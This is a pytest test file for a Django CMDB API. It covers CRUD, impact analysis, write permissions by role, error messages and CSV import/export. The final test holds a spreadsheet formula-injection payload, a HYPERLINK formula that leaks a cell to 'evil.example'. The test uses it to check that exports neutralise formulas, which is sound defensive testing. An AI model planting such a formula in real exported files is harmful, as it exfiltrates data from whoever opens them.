"""The CMDB API: CRUD, impact, CSV, and who may write (configuration managers and admins only)."""

from collections.abc import Callable
from typing import Any, Final

import pytest
from django.db.models import Model
from django.test import Client
from pydantic import BaseModel

from keel.accounts.models import User
from keel.cmdb.kinds import FIELD_OF_NAME
from keel.cmdb.models import CIType, ConfigurationItem, Relationship, Service
from keel.cmdb.schemas import (
    CIIn,
    CIOut,
    CIPatch,
    CITypeIn,
    CITypeOut,
    CITypePatch,
    ServiceIn,
    ServiceOut,
    ServicePatch,
)
from tests.conftest import ApiClient, Graph

pytestmark = pytest.mark.django_db

Api = Callable[[User], ApiClient]


def test_a_configuration_manager_builds_a_service_tree(
    api: Api, config_manager: User, ci_types: dict[str, CIType]
) -> None:
    client = api(config_manager)

    db = client.post("/cis", {"name": "payments-db", "type": "database", "criticality": 1, "aliases": ["pay-db"]})
    checkout = client.post("/cis", {"name": "checkout-api", "type": "application", "criticality": 2})
    shop = client.post("/services", {"name": "Online shop", "users": 12000, "criticality": 1})
    link = client.post("/relationships", {"source": "checkout-api", "target": db.json()["id"], "kind": "depends_on"})
    client.post("/relationships", {"source": "Online shop", "target": "checkout-api", "kind": "depends_on"})

    assert (db.status_code, checkout.status_code, shop.status_code, link.status_code) == (201, 201, 201, 201)
    assert db.json()["aliases"] == ["pay-db"]
    assert link.json()["source"]["name"] == "checkout-api"
    assert shop.json()["ci"]["name"] == "Online shop"
    impact = client.get("/cis/payments-db/impact?direction=up&depth=5").json()
    assert [(ci["name"], ci["distance"]) for ci in impact["cis"]] == [("checkout-api", 1), ("Online shop", 2)]
    assert impact["services"] == [
        {"id": shop.json()["id"], "name": "Online shop", "users": 12000, "criticality": 1, "distance": 2}
    ]
    assert impact["users"] == 12000


def test_cis_are_addressed_by_id_or_name(api: Api, agent: User, build_graph: Callable[[list[str]], Graph]) -> None:
    graph = build_graph(["web depends_on db"])
    client = api(agent)

    by_id, by_name = client.get(f"/cis/{graph['db'].pk}"), client.get("/cis/db")

    assert by_id.json() == by_name.json()
    assert by_name.json()["type"] == "server"


def test_a_ci_named_with_digits_is_found_by_that_name(
    api: Api, config_manager: User, agent: User, build_graph: Callable[[list[str]], Graph]
) -> None:
    build_graph(["web depends_on db"])
    client = api(config_manager)
    rack = client.post("/cis", {"name": "1234", "type": "server", "criticality": 2}).json()

    read = client.get("/cis/1234")
    related = client.post("/relationships", {"source": "web", "target": "1234", "kind": "runs_on"})
    incident = api(agent).post("/incidents", {"title": "Rack 1234 is hot", "ci": "1234"})

    assert rack["id"] != 1234
    assert (read.status_code, read.json()["id"]) == (200, rack["id"])
    assert related.json()["target"] == {"id": rack["id"], "name": "1234"}
    assert incident.json()["ci"] == {"id": rack["id"], "name": "1234"}


def test_digits_are_an_id_first_when_a_ci_has_that_id(
    api: Api, config_manager: User, build_graph: Callable[[list[str]], Graph]
) -> None:
    graph = build_graph(["web depends_on db"])
    client = api(config_manager)
    named_like_web = client.post("/cis", {"name": str(graph["web"].pk), "type": "server", "criticality": 2}).json()

    by_digits = client.get(f"/cis/{graph['web'].pk}")
    by_own_id = client.get(f"/cis/{named_like_web['id']}")

    assert by_digits.json()["name"] == "web"
    assert by_own_id.json()["name"] == str(graph["web"].pk)


def test_an_unknown_record_in_the_path_is_404(
    api: Api, config_manager: User, build_graph: Callable[[list[str]], Graph]
) -> None:
    build_graph(["web depends_on db"])
    client = api(config_manager)
    delete = client.client.delete

    answers = {
        "get ci": client.get("/cis/ghost"),
        "patch ci": client.patch("/cis/ghost", {"criticality": 1}),
        "delete ci": delete("/api/v1/cis/ghost", headers=client.headers),
        "impact": client.get("/cis/ghost/impact"),
        "relationships of": client.get("/cis/ghost/relationships"),
        "get service": client.get("/services/ghost"),
        "patch service": client.patch("/services/ghost", {"users": 1}),
        "delete service": delete("/api/v1/services/ghost", headers=client.headers),
        "get type": client.get("/ci-types/ghost"),
        "patch type": client.patch("/ci-types/ghost", {"name": "Ghost"}),
        "delete type": delete("/api/v1/ci-types/ghost", headers=client.headers),
        "get relationship": client.get("/relationships/999999"),
        "patch relationship": client.patch("/relationships/999999", {"kind": "runs_on"}),
        "delete relationship": delete("/api/v1/relationships/999999", headers=client.headers),
    }

    assert {name: answer.status_code for name, answer in answers.items()} == dict.fromkeys(answers, 404)
    assert answers["get ci"].json() == {
        "message": "No configuration item 'ghost'; give a CI id or its exact name.",
        "field": "id",
    }
    assert answers["get type"].json()["field"] == "slug"
    assert ConfigurationItem.objects.count() == 2


def test_an_unknown_record_in_the_body_is_400_naming_the_field(
    api: Api, config_manager: User, build_graph: Callable[[list[str]], Graph]
) -> None:
    build_graph(["web depends_on db"])
    client = api(config_manager)

    source = client.post("/relationships", {"source": "ghost", "target": "db", "kind": "depends_on"})
    target = client.post("/relationships", {"source": "web", "target": "ghost", "kind": "depends_on"})
    service_ci = client.post("/services", {"name": "Shop", "ci": "ghost"})
    ci_type = client.patch("/cis/web", {"type": "gadget"})

    assert [answer.status_code for answer in (source, target, service_ci, ci_type)] == [400, 400, 400, 400]
    assert [answer.json()["field"] for answer in (source, target, service_ci, ci_type)] == [
        "source",
        "target",
        "ci",
        "type",
    ]
    assert source.json()["message"] == "No configuration item 'ghost'; give a CI id or its exact name."
    assert not Service.objects.exists()


def test_everyone_signed_in_reads_the_cmdb(
    api: Api, requester: User, build_graph: Callable[[list[str]], Graph]
) -> None:
    build_graph(["web depends_on db"])
    client = api(requester)

    listing = client.get("/cis?q=we")

    assert listing.status_code == 200
    assert [ci["name"] for ci in listing.json()["items"]] == ["web"]
    assert client.get("/cis/db/impact?direction=up").status_code == 200
    assert client.get("/ci-types").status_code == 200


@pytest.mark.parametrize("role_fixture", ["requester", "agent", "resolver", "incident_manager"])
def test_others_cannot_write_the_cmdb(
    api: Api, request: pytest.FixtureRequest, role_fixture: str, build_graph: Callable[[list[str]], Graph]
) -> None:
    graph = build_graph(["web depends_on db"])
    client = api(request.getfixturevalue(role_fixture))
    relationship = Relationship.objects.get()

    answers = [
        client.post("/cis", {"name": "new", "type": "server", "criticality": 3}),
        client.patch("/cis/web", {"criticality": 1}),
        client.client.delete("/api/v1/cis/web", headers=client.headers),
        client.post("/relationships", {"source": "db", "target": "web", "kind": "depends_on"}),
        client.client.delete(f"/api/v1/relationships/{relationship.pk}", headers=client.headers),
        client.post("/services", {"name": "Shop", "users": 1}),
        client.post("/ci-types", {"slug": "queue", "name": "Queue"}),
        client.client.post("/api/v1/cmdb/import/cis", "name,type\nx,server\n", content_type="text/csv",
                           headers=client.headers),
    ]  # fmt: skip

    assert {answer.status_code for answer in answers} == {403}
    assert answers[0].json()["message"] == "Only configuration managers and administrators can change the CMDB."
    assert set(ConfigurationItem.objects.values_list("name", flat=True)) == {"web", "db"}
    assert graph["web"].criticality == ConfigurationItem.objects.get(name="web").criticality
    assert Relationship.objects.count() == 1
    assert not Service.objects.exists()


def test_an_admin_may_write_the_cmdb(api: Api, admin_user: User, ci_types: dict[str, CIType]) -> None:
    answer = api(admin_user).post("/cis", {"name": "new", "type": "server", "criticality": 3})

    assert answer.status_code == 201


def test_without_a_token_the_cmdb_answers_401(ci_types: dict[str, CIType]) -> None:
    client = Client()

    assert client.get("/api/v1/cis").status_code == 401
    assert client.post("/api/v1/cis", {}, content_type="application/json").status_code == 401


def test_bad_input_says_what_to_fix_and_changes_nothing(
    api: Api, config_manager: User, build_graph: Callable[[list[str]], Graph]
) -> None:
    build_graph(["web depends_on db"])
    client = api(config_manager)

    unknown_type = client.post("/cis", {"name": "x", "type": "gadget", "criticality": 3})
    taken = client.post("/cis", {"name": "web", "type": "server", "criticality": 3})
    bad_criticality = client.post("/cis", {"name": "y", "type": "server", "criticality": 7})
    self_loop = client.post("/relationships", {"source": "web", "target": "web", "kind": "depends_on"})
    bad_kind = client.post("/relationships", {"source": "web", "target": "db", "kind": "likes"})
    bad_depth = client.get("/cis/web/impact?depth=50")

    assert unknown_type.status_code == 400
    assert unknown_type.json()["field"] == "type"
    assert taken.json() == {"message": "Name: Configuration item with this Name already exists.", "field": "name"}
    assert bad_criticality.json()["field"] == "criticality"
    assert self_loop.json() == {"message": "web cannot be related to itself.", "field": "target"}
    assert bad_kind.json()["field"] == "kind"
    assert bad_depth.json() == {"message": "depth must be a whole number from 1 to 20 (got '50').", "field": "depth"}
    assert ConfigurationItem.objects.count() == 2


def test_patch_and_delete(api: Api, config_manager: User, build_graph: Callable[[list[str]], Graph]) -> None:
    build_graph(["web depends_on db"])
    client = api(config_manager)

    patched = client.patch("/cis/web", {"criticality": 1, "owner_team": None, "attributes": {"os": "Debian"}})
    relationship = client.get("/cis/web/relationships").json()[0]
    deleted = client.client.delete(f"/api/v1/relationships/{relationship['id']}", headers=client.headers)
    gone = client.client.delete("/api/v1/cis/web", headers=client.headers)

    assert (patched.json()["criticality"], patched.json()["attributes"]) == (1, {"os": "Debian"})
    assert (deleted.status_code, gone.status_code) == (204, 204)
    assert list(ConfigurationItem.objects.values_list("name", flat=True)) == ["db"]


def test_a_ci_that_incidents_name_cannot_be_deleted(
    api: Api, config_manager: User, agent: User, build_graph: Callable[[list[str]], Graph]
) -> None:
    build_graph(["web depends_on db"])
    api(agent).post("/incidents", {"title": "DB down", "ci": "db"})

    answer = api(config_manager).client.delete("/api/v1/cis/db", headers=api(config_manager).headers)

    assert answer.status_code == 409
    assert answer.json()["message"] == "Incidents name db; retire it (status 'retired') instead of deleting it."


def test_csv_import_and_export_over_the_api(api: Api, config_manager: User, ci_types: dict[str, CIType]) -> None:
    client = api(config_manager)
    body = "name,type,criticality\nweb-01,server,2\ndb-01,database,1\n"

    first = client.client.post("/api/v1/cmdb/import/cis", body, content_type="text/csv", headers=client.headers)
    again = client.client.post("/api/v1/cmdb/import/cis", body, content_type="text/csv", headers=client.headers)
    bad = client.client.post(
        "/api/v1/cmdb/import/cis", "name,type\nok,server\nx,gadget\n", content_type="text/csv", headers=client.headers
    )
    exported = client.get("/cmdb/export/cis")

    assert first.json() == {"created": 2, "updated": 0, "unchanged": 0}
    assert again.json() == {"created": 0, "updated": 0, "unchanged": 2}
    assert bad.status_code == 400
    assert bad.json()["errors"] == [
        {"line": 3, "field": "type", "message": "no type 'gadget'; give a CI type slug such as 'server'"}
    ]
    assert not ConfigurationItem.objects.filter(name="ok").exists()
    assert exported["Content-Type"] == "text/csv; charset=utf-8"
    assert b"".join(exported.streaming_content).decode().splitlines()[1:] == [
        "web-01,server,in_service,production,2,,,,,,",
        "db-01,database,in_service,production,1,,,,,,",
    ]


def test_a_big_csv_streams_past_the_in_memory_body_limit(
    api: Api, config_manager: User, ci_types: dict[str, CIType], settings: Any
) -> None:
    settings.DATA_UPLOAD_MAX_MEMORY_SIZE = 1_000
    client = api(config_manager)
    body = "\ufeffname,type\n" + "".join(f"host-{number:04d},server\n" for number in range(200))

    answer = client.client.post(
        "/api/v1/cmdb/import/cis", body.encode(), content_type="text/csv", headers=client.headers
    )

    assert len(body) > 3_000
    assert answer.json() == {"created": 200, "updated": 0, "unchanged": 0}
    assert ConfigurationItem.objects.filter(name="host-0199").exists()


def test_a_body_that_is_not_utf8_is_refused(api: Api, config_manager: User, ci_types: dict[str, CIType]) -> None:
    client = api(config_manager)

    answer = client.client.post(
        "/api/v1/cmdb/import/cis", "name,type\ncafé,server\n".encode("latin-1"), content_type="text/csv",
        headers=client.headers,
    )  # fmt: skip

    assert answer.json() == {"message": "Line 2 is not UTF-8 text; save the CSV as UTF-8.", "field": "file"}
    assert not ConfigurationItem.objects.exists()


def test_every_create_answers_where_the_new_record_lives(
    api: Api, config_manager: User, ci_types: dict[str, CIType]
) -> None:
    client = api(config_manager)

    ci_type = client.post("/ci-types", {"slug": "queue", "name": "Queue"})
    ci = client.post("/cis", {"name": "mq-01", "type": "queue"})
    service = client.post("/services", {"name": "Messaging"})
    link = client.post("/relationships", {"source": "Messaging", "target": "mq-01", "kind": "depends_on"})
    answers = [ci_type, ci, service, link]

    assert [answer["Location"] for answer in answers] == [
        "/api/v1/ci-types/queue",
        f"/api/v1/cis/{ci.json()['id']}",
        f"/api/v1/services/{service.json()['id']}",
        f"/api/v1/relationships/{link.json()['id']}",
    ]
    assert [client.get(answer["Location"].removeprefix("/api/v1")).json() for answer in answers] == [
        answer.json() for answer in answers
    ]


# The model fields each API shape does not name: the revision, which answers carry as their ETag
# header (and If-Match sends back), and the id, which a client never sends.
IN_ETAG: Final = {"revision"}
NOT_SENT: Final = {"id", *IN_ETAG}


@pytest.mark.parametrize(
    ("shape", "model", "not_named"),
    [
        (CITypeOut, CIType, IN_ETAG),
        (CITypeIn, CIType, NOT_SENT),
        (CITypePatch, CIType, NOT_SENT),
        (CIOut, ConfigurationItem, IN_ETAG),
        (CIIn, ConfigurationItem, NOT_SENT),
        (CIPatch, ConfigurationItem, NOT_SENT),
        (ServiceOut, Service, IN_ETAG),
        (ServiceIn, Service, NOT_SENT),
        (ServicePatch, Service, NOT_SENT),
    ],
)
def test_api_shape_columns_follow_the_model(shape: type[BaseModel], model: type[Model], not_named: set[str]) -> None:
    # A CI's answer also says which business service it stands for (the service's side of the link).
    derived = {"service"} if shape is CIOut else set()
    named = {FIELD_OF_NAME.get(name, name) for name in shape.model_fields} - derived

    assert {field.name for field in model._meta.concrete_fields} == named | not_named


FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'


def test_an_exported_formula_is_text_and_imports_back_as_it_was(
    api: Api, config_manager: User, requester: User, ci_types: dict[str, CIType]
) -> None:
    manager = api(config_manager)
    created = manager.post(
        "/cis",
        {"name": FORMULA, "type": "server", "aliases": ["@SUM(1)", "ok"], "location": "-1 floor", "description": "'=x"},
    )

    exported = b"".join(api(requester).get("/cmdb/export/cis").streaming_content).decode()
    deleted = manager.delete(f"/cis/{created.json()['id']}")
    imported, again = (
        manager.client.post("/api/v1/cmdb/import/cis", exported, content_type="text/csv", headers=manager.headers)
        for _ in range(2)
    )

    [row] = exported.splitlines()[1:]
    assert row.startswith("\"'=HYPERLINK(")
    assert ",'-1 floor,'@SUM(1);ok," in row
    assert row.endswith(",''=x")
    assert (deleted.status_code, imported.json()["created"], again.json()["unchanged"]) == (204, 1, 1)
    ci = ConfigurationItem.objects.get(name=FORMULA)
    assert (ci.aliases, ci.location, ci.description) == (["@SUM(1)", "ok"], "-1 floor", "'=x")
